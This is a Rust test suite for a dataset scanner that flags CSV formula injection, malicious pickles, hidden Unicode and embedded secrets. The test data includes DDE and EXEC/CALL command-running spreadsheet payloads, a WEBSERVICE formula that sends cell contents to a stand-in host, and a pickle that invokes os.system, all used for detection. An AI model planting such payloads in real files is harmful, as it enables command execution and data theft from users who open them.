//! Tables and lines of JSON.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::{ALARMING, build, list, report};

const FORMULAS: &str = "artifact.dataset.formulas";

#[test]
fn plain_datasets_are_silent() {
    for (text, name, format) in [
        ("name,score\nada,1\n\"=1+1\",-2\n+49 30 123,@home\n-cmd,=SUM(A1:A3)\n", "a.csv", "csv"),
        ("name\tnote\nada\tthe bash | pipe is on page 3\nbo\t=A1&\"cmd\"\n", "a.tsv", "csv"),
        (
            "{\"text\": \"caf\\u00e9 \\ud83d\\ude00\"}\n{\"text\": \"see os.system in the manual\"}\n",
            "a.jsonl",
            "jsonl",
        ),
        ("{\"image\": \"gA==\", \"n\": 1}\n{\"n\": 2}\n", "a.ndjson", "jsonl"),
    ] {
        let report = report(text.as_bytes(), name);
        assert_eq!(report.format, format);
        assert!(report.issues.is_empty(), "{report:?}");
        assert!(ALARMING.iter().all(|path| !report.facts.contains_key(*path)), "{name}: {report:?}");
    }
}

#[test]
fn formulas_that_run_are_told() {
    for cell in [
        "=cmd|'/C echo lanner'!A0",
        "\"=cmd|'/C echo lanner'!A0\"",
        "+cmd|'/C echo lanner'!A0",
        "@SUM(1+1)*cmd|'/C echo lanner'!A0",
        "=DDE(\"cmd\",\"/C echo lanner\",\"x\")",
        "=WEBSERVICE(\"https://example.com/\"&A1)",
        "=2+5+cmd|'/C echo lanner'!A0",
        "\u{ff1d}cmd|'/C echo lanner'!A0",
        "=EXEC(\"echo lanner\")",
        "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\")",
        "\u{ff1d}REGISTER(\"lanner\")",
        "=MSEXCEL|'..\\..\\cmd.exe'!''",
    ] {
        let report = report(format!("name,note\nada,{cell}\n").as_bytes(), "a.csv");
        let told = list(&report, FORMULAS);
        assert!(told.len() == 1 && told.iter().all(|item| item.ends_with("@line 2")), "{cell}: {report:?}");
    }
}

#[test]
fn lines_hide_neither_pickles_nor_characters() {
    let pickled = STANDARD.encode(build::pickle_os_system());
    let table = report(format!("name,blob\nada,{pickled}\n").as_bytes(), "a.csv");
    assert_eq!(list(&table, "artifact.pickle.dangerous_calls"), ["os.system"]);
    assert_eq!(list(&table, "artifact.metadata.suspicious"), ["data@line 2"]);
    let lines = report(format!("{{\"n\": 1}}\n{{\"blob\": \"{pickled}\"}}\n").as_bytes(), "a.jsonl");
    assert_eq!(list(&lines, "artifact.pickle.dangerous_calls"), ["os.system"]);
    let escaped = report(b"{\"n\": 1}\n{\"t\": \"a\\udb40\\udc41\\udb40\\udc42\"}\n", "a.jsonl");
    assert!(!list(&escaped, "artifact.hidden_unicode").is_empty(), "{escaped:?}");
    let shown = report("name\nada\u{e0041}\u{e0042}\n".as_bytes(), "a.csv");
    assert_eq!(list(&shown, "artifact.hidden_unicode"), ["tags@line 2"]);
    let key = "MIIEowIBAAKCAQEAz7Zl0tq1Y3c1mJp0m2cEXb8nQv5s";
    let far = format!("{}ada,-----BEGIN PRIVATE KEY-----\\n{key}\n", "x,1\n".repeat(200_000));
    assert_eq!(list(&report(far.as_bytes(), "a.csv"), "artifact.secrets"), ["private_key@line 200001"]);
}

#[test]
fn a_pickle_by_another_name_is_still_one() {
    let report = report(&build::pickle_os_system(), "a.csv");
    assert_eq!(report.format, "pickle");
    assert!(report.facts.contains_key("artifact.extension_mismatch"));
}

#[test]
fn links_made_of_cells_start_nothing() {
    for cell in ["=HYPERLINK(\"https://example.com/?id=\"&A2,\"x\")", "=IMAGE(\"https://example.com/\"&A2)"] {
        let report = report(format!("name,note\nada,{cell}\n").as_bytes(), "a.csv");
        assert!(list(&report, FORMULAS).is_empty(), "{cell}: {report:?}");
        assert_eq!(list(&report, "artifact.dataset.links").len(), 1, "{cell}: {report:?}");
    }
}
